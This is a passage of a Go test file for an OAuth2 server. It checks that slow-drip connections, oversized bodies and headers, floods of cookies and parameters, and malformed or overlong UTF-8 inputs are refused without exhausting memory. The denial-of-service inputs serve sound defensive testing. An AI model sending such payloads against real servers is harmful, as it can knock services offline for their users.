		"slow login":    "POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nOrigin: " + s.URL + "\r\nContent-Length: 1000\r\n\r\n",
		"HTTP/2 prefix": "PRI * HTTP/2.0\r\n",
	} {
		for range 20 {
			wg.Go(func() {
				conn, err := net.Dial("tcp", address)
				if err != nil {
					t.Error(err)
					return
				}
				defer conn.Close()
				started := time.Now()
				io.WriteString(conn, begin)
				stop := make(chan struct{})
				defer close(stop)
				go func() { // a byte now and then
					for ticker := time.NewTicker(20 * time.Millisecond); ; {
						select {
						case <-stop:
							ticker.Stop()
							return
						case <-ticker.C:
							io.WriteString(conn, "a")
						}
					}
				}()
				conn.SetReadDeadline(started.Add(10 * time.Second))
				answer, err := io.ReadAll(conn)
				if e, ok := err.(net.Error); ok && e.Timeout() {
					t.Errorf("%s: the connection is still open after %v", name, time.Since(started))
				}
				if strings.HasPrefix(string(answer), "HTTP/1.1 2") || strings.HasPrefix(string(answer), "HTTP/1.1 5") {
					t.Errorf("%s: %.80q", name, answer)
				}
			})
		}
	}
	for range 10 { // everybody else is served
		if a := s.post("/oauth2/token", url.Values{"grant_type": {"client_credentials"}, "scope": {"profile"}}); a.Status != http.StatusOK {
			t.Errorf("a quick client: %d", a.Status)
		}
	}
	wg.Wait()
}

func TestRow197GreedyRequestsAreRefused(t *testing.T) {
	s := start(t, "memory")
	s.client()
	s.user("ada@example.com")
	address := s.listen(false)
	b := s.browser("ada@example.com")
	action, login := readForm(t, s.signIn(b).Body, "login")
	cookie := "Cookie: " + b.cookies()
	runtime.GC()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	form := "Content-Type: application/x-www-form-urlencoded"
	big := func(n int) string { return strings.Repeat("x", n) }
	base := "grant_type=refresh_token&client_id=app&client_secret=x&"
	for _, c := range []struct {
		name         string
		want         []int
		method, path string
		body         string
		headers      []string
	}{
		{"2 MB form", []int{413}, "POST", "/oauth2/token", base + "x=" + big(2<<20), []string{form}},
		{"64 KiB and a byte", []int{413}, "POST", "/oauth2/token", big(64<<10 + 1), []string{form}},
		{"2 MB sign-in", []int{413}, "POST", action, login.Encode() + "&password=" + big(2<<20), []string{form, cookie, "Origin: " + s.URL}},
		{"2 MB authorize", []int{413}, "POST", "/oauth2/authorize", "state=" + big(2<<20), []string{form}},
		{"a million parameters", []int{413}, "POST", "/oauth2/token", strings.Repeat("a=b&", 1<<20), []string{form}},
		{"101 parameters", []int{400}, "POST", "/oauth2/token", base + strings.Repeat("a=b&", 101), []string{form}},
		{"101 parameters in the URL", []int{400}, "GET", "/oauth2/authorize?" + strings.Repeat("a=b&", 101), "", nil},
		{"101 names", []int{400}, "GET", "/oauth2/authorize?" + names(101), "", nil},
		{"51 cookies", []int{431}, "GET", "/account", "", []string{"Cookie: " + strings.Repeat("a=b; ", 50) + "a=b"}},
		{"4,000 cookies", []int{431}, "GET", "/account", "", []string{"Cookie: " + strings.Repeat("a=b; ", 4000)}},
		{"100k cookies", []int{431}, "GET", "/account", "", []string{"Cookie: " + strings.Repeat("a=b; ", 100_000)}},
		{"1 MB header", []int{431}, "GET", "/login", "", []string{"X: " + big(1<<20)}},
		{"40 KiB header", []int{431}, "GET", "/login", "", []string{"X: " + big(40<<10)}},
		{"40 KiB of Basic", []int{431}, "POST", "/oauth2/token", base, []string{form, "Authorization: Basic " + big(40<<10)}},
		{"40 KiB URL", []int{414, 431}, "GET", "/oauth2/authorize?state=" + big(40<<10), "", nil},
		{"10k languages", []int{431}, "GET", "/login", "", []string{"Accept-Language: " + strings.Repeat("de,", 20_000)}},
		{"5k languages", []int{303}, "GET", "/login", "", []string{"Accept-Language: " + strings.Repeat("de,", 5_000)}},
		{"long state", []int{400}, "GET", strings.TrimPrefix(s.authorizeURL(url.Values{"state": {big(4<<10 + 1)}}), s.URL), "", nil},
		{"long scope", []int{400}, "GET", strings.TrimPrefix(s.authorizeURL(url.Values{"scope": {big(2<<10 + 1)}}), s.URL), "", nil},
		{"51 scopes", []int{400}, "GET", strings.TrimPrefix(s.authorizeURL(url.Values{"scope": {strings.Repeat("a ", 51)}}), s.URL), "", nil},
		{"long token", []int{400}, "POST", "/oauth2/introspect", "client_id=app&client_secret=" + clientSecret + "&token=" + big(16<<10+1), []string{form}},
		{"60 KB user name", []int{400}, "POST", action, with(login, "username", big(60<<10)).Encode(), []string{form, cookie, "Origin: " + s.URL}},
		{"60 KB password", []int{400}, "POST", action, with(with(login, "username", "ada@example.com"), "password", big(60<<10)).Encode(), []string{form, cookie, "Origin: " + s.URL}},
		{"user name of combining marks", []int{401}, "POST", action, with(with(login, "username", "a"+strings.Repeat("\u0301", 500)), "password", "x").Encode(), []string{form, cookie, "Origin: " + s.URL}},
		{"invalid UTF-8 user name", []int{400}, "POST", action, login.Encode() + "&username=%ff%fe&password=x", []string{form, cookie, "Origin: " + s.URL}},
		{"overlong UTF-8", []int{400}, "POST", action, login.Encode() + "&username=%c0%af&password=x", []string{form, cookie, "Origin: " + s.URL}},
		{"surrogates", []int{400}, "GET", "/oauth2/authorize?state=%ed%a0%80", "", nil},
		{"NUL", []int{400}, "GET", "/oauth2/authorize?state=%00", "", nil},
		{"broken escape", []int{400}, "GET", "/oauth2/authorize?state=%zz", "", nil},
		{"deep claims", []int{303, 400}, "GET", strings.TrimPrefix(s.authorizeURL(url.Values{"claims": {strings.Repeat(`{"a":`, 300)}}), s.URL), "", nil},
		{"deep JWT", []int{200, 400}, "POST", "/oauth2/introspect", "client_id=app&client_secret=" + clientSecret + "&token=" + strings.Repeat("eyJ.", 4000), []string{form}},
	} {
		answer := s.ask(address, c.method, c.path, c.body, c.headers)
		if !slices.ContainsFunc(c.want, func(status int) bool { return strings.HasPrefix(answer, fmt.Sprintf("HTTP/1.1 %d ", status)) }) {
			t.Errorf("%s: %.60q, want one of %v", c.name, answer, c.want)
		}
	}
	// The names of clients are the caller's to choose; what is remembered of them is not.
	for i := range 2000 {
		s.post("/oauth2/token", url.Values{"grant_type": {"client_credentials"}, "client_id": {fmt.Sprint(i, big(4000))}, "client_secret": {"x"}}, noBasic)
	}
	logged := s.Log.Drop()
	if logged > 4<<20 {
		t.Errorf("%d bytes of log", logged)
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	if grown := int64(after.HeapAlloc) - int64(before.HeapAlloc); grown > 6<<20 {
		t.Errorf("%d KB are still held", grown>>10)
	}
	if grown := int64(after.HeapSys) - int64(before.HeapSys); grown > 64<<20 {
		t.Errorf("the heap grew by %d MB", grown>>20)
	}
	if s.redeem(b.code(nil)).Status != http.StatusOK {
		t.Error("the server does not work any more")
	}
}

// names returns n parameters of different names.
func names(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "p%d=x&", i)
	}
	return b.String()
}

// ask sends a request on a connection of its own, whatever its size, and returns what comes back. The server may answer before it has read all.
func (s *server) ask(address, method, path, body string, headers []string) string {
	s.Helper()
	conn, err := net.Dial("tcp", address)
	s.ok(err)
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	go func() {
		w := bufio.NewWriter(conn)
		fmt.Fprintf(w, "%s %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n", method, path)
		for _, header := range headers {
			fmt.Fprintf(w, "%s\r\n", header)
		}
		fmt.Fprintf(w, "Content-Length: %d\r\n\r\n%s", len(body), body)
		w.Flush()
	}()
	answer, _ := io.ReadAll(conn)
	return string(answer)
}
